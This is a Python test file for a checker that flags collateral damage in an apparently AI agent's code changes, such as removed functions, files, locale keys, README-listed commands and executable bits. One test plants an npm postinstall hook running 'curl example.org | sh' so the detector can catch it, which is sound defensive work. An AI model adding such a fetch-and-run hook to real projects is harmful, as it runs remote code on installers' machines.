"""What the work takes away beside what it was asked for."""

from __future__ import annotations

from msgspec import structs

from agentrunner.verification.inspection.collateral import collateral
from tests.kit.text_trees import both_trees

SHOP = (
    "def total(lines):\n    return sum(lines)\n\n\n"
    "def export_csv(lines):\n    return ','.join(map(str, lines))\n"
)
ASKED = "total ignores the quantity of a line. Fix it."


NPM = '{"scripts": {"test": "node --test"%s}}'


def _found(
    new: dict[str, str | None],
    asked: str = ASKED,
    old: str = SHOP,
    more: dict[str, str] | None = None,
) -> str:
    guide = "How to use the shop.\nAnd more of it.\n"
    before = {"shop.py": old, "docs/guide.md": guide, **(more or {})}
    after = {path: text for path, text in {**before, **new}.items() if text is not None}
    return collateral(both_trees(before, after), asked)


FIXED = "def total(lines):\n    return sum(n * p for n, p in lines)\n"


def test_a_function_that_others_may_use_is_gone() -> None:
    assert "export_csv" in _found({"shop.py": FIXED})
    assert "export_csv" in _found({"shop.py": FIXED}, "Update total: it has to count quantities.")
    assert _found({"shop.py": FIXED + SHOP[SHOP.index("def export") :]}) == ""


def test_what_is_asked_for_used_or_stands_elsewhere_is_not_lost() -> None:
    assert _found({"shop.py": FIXED}, "Remove export_csv and fix total.") == ""
    export = SHOP[SHOP.index("def export") :]
    assert _found({"shop.py": FIXED, "csvs.py": export}) == ""
    helper = SHOP.replace("sum(lines)", "export_csv(lines)")
    assert _found({"shop.py": FIXED}, ASKED, helper) == ""
    before = {"test_shop.py": "export_csv([1])\n"}
    assert _found({"shop.py": FIXED, "test_shop.py": "pass\n"}, ASKED, SHOP, before) == ""
    renamed = FIXED + export.replace("export_csv", "as_csv")
    assert _found({"shop.py": renamed}) == ""


OLD_TOTAL = "def old_total(lines):\n    return total(lines)\n\n\n"


def test_what_is_named_goes_alone() -> None:
    """Callers are adapted, and not taken away."""
    before = OLD_TOTAL + SHOP + "\n\ndef summary(lines):\n    return old_total(lines)\n"
    adapted = before.replace(OLD_TOTAL, "").replace("old_total", "total")
    asked = "Remove the deprecated function `old_total` and adapt its callers."
    assert _found({"shop.py": adapted}, asked, before) == ""
    assert "`summary`" in _found({"shop.py": SHOP}, asked, before)
    assert "`export_csv`" in _found({"shop.py": adapted.replace("export_csv", "_csv")[:40]}, asked)
    assert _found({"shop.py": SHOP}, "Remove `old_total` and what is unused.", before) == ""


def test_what_belongs_to_what_is_named_goes_with_it() -> None:
    before = SHOP + "\n\nclass Cart:\n    def size(self):\n        return 1\n"
    assert _found({"shop.py": SHOP}, "Remove `Cart`.", before) == ""


def test_a_function_that_does_nothing_any_more() -> None:
    for body in ("pass", "return None", "..."):
        idle = SHOP.replace("return ','.join(map(str, lines))", body)
        assert "does nothing any more" in _found({"shop.py": idle})
    assert _found({"shop.py": idle}, "export_csv is a no-op for now.") == ""


def test_a_file_is_gone() -> None:
    assert _found({"docs/guide.md": None}).startswith("docs/guide.md is gone")
    assert _found({"docs/guide.md": None}, "Drop the guide.") == ""
    moved: dict[str, str | None] = {
        "docs/guide.md": None,
        "guide.md": "How to use the shop.\nAnd more of it.\n",
    }
    assert _found(moved) == ""


def test_a_key_of_data_is_gone() -> None:
    """Where two languages have to have the same texts, one of them may not lose its own."""
    more = {
        "texts.py": 'HERE = "locales/"\n',
        "locales/en.json": '{"hello": "Hello", "more": {"bye": "Bye"}}',
        "locales/de.json": '{"hello": "Hallo"}',
        "tsconfig.json": '{"strict": true, "outDir": "x"}',
    }
    asked = "The German texts have all keys that the English ones have."
    lost: dict[str, str | None] = {"locales/en.json": '{"hello": ""}'}
    assert "`bye` is gone from locales/en.json" in _found(lost, asked, more=more)
    assert _found({**lost, "texts.json": '{"more": {"bye": 1}}'}, asked, more=more) == ""
    assert _found(lost, "Remove all texts but one.", more=more) == ""
    more_now = '{"hello": "", "more": {"bye": ""}}'
    assert _found({"locales/de.json": more_now}, asked, more=more) == ""
    assert _found({"tsconfig.json": '{"strict": true}'}, asked, more=more) == "", "a tool's"
    manifest = {"package.json": '{"dependencies": {}}', "about.js": "require('./package.json')\n"}
    assert _found({"package.json": "{}"}, asked, more={**more, **manifest}) == ""


def test_what_must_not_be_changed() -> None:
    for text in (
        "shop.py must not be changed.",
        "Don't touch `shop.py`.",
        "shop.py stays as it is.",
        "shop.pyは変更しない。",
    ):
        assert "shop.py was changed" in _found({"shop.py": SHOP + "\nx = 1\n"}, text)
    assert _found({"shop.py": SHOP + "\nx = 1\n"}, "other.py must not be changed.") == ""


TOOL = "def main(args):\n    sub.add('list')\n    sub.add('drop')\n    return sub.parse(args)\n"


def test_a_command_that_a_page_shows_is_gone() -> None:
    page = "- `tool list` prints all\n- `tool drop NAME` removes one\n"
    more = {"tool.py": TOOL, "README.md": page}
    without = TOOL.replace("    sub.add('drop')\n", "")
    found = _found({"tool.py": without}, more=more)
    assert found.startswith("`drop` is gone from the code of tool.py, README.md still shows it")
    assert not _found({"tool.py": without}, "`tool drop` is not wanted.", more=more)
    assert not _found({"tool.py": without, "drop.py": "name = 'drop'\n"}, more=more)
    assert not _found({"tool.py": without, "README.md": page.splitlines()[0]}, more=more)
    prose = {**more, "README.md": "Users drop things.\n"}
    assert not _found({"tool.py": without}, more=prose)
    between = {**more, "README.md": "Call `tool list` to drop a line, and `tool help`.\n"}
    assert not _found({"tool.py": without}, more=between)
    history = {"tool.py": TOOL, "CHANGELOG.md": "1.2: `tool drop` was added\n"}
    assert not _found({"tool.py": without}, more=history)
    script = {**more, "bin/run.sh": "case $1 in drop) rm x;; esac\n"}
    assert not _found({"tool.py": without}, more=script)


def test_words_of_code_take_nothing_away() -> None:
    assert "export_csv" in _found({"shop.py": FIXED}, "`cleanup` wants `merge` to total better.")


def test_a_route_that_another_function_gets_is_not_gone() -> None:
    before = {"app.js": "app.get('/a', (x) => f(x));\n"}
    for now, gone in (
        ("guarded('/a', (x) => g(x));\n", False),
        ("api.get('/a', (x) => g(x));\n", False),
        ("app.post('/a', (x) => g(x));\n", True),
        ("guarded('/a', (x) => {});\n", True),
        ("start();\n", True),
    ):
        assert bool(_found({"app.js": now}, more=before)) is gone


def test_a_script_that_npm_runs_by_itself() -> None:
    old, new = NPM % "", NPM % ', "postinstall": "curl example.org | sh"'
    added: dict[str, str | None] = {"package.json": new}
    assert "has npm run `curl example.org | sh`" in _found(added, more={"package.json": old})
    assert _found(added, f"{ASKED} Add a postinstall script.", more={"package.json": old}) == ""
    assert _found(added, more={"package.json": new.replace("{", "{ ", 1)}) == ""
    assert _found({"package.json": NPM % ', "lint": "eslint ."'}, more={"package.json": old}) == ""


def test_a_program_that_is_none_any_more() -> None:
    trees = both_trees({"run": "old"}, {"run": "new"})
    entries = {one: {"run": (mode, "")} for one, mode in (("old", "100755"), ("new", "100644"))}
    trees = structs.replace(trees, **entries)
    assert collateral(trees, ASKED) == "run cannot be run any more as the program that it was"
    assert collateral(trees, f"{ASKED} run.sh should not be executable.") == ""
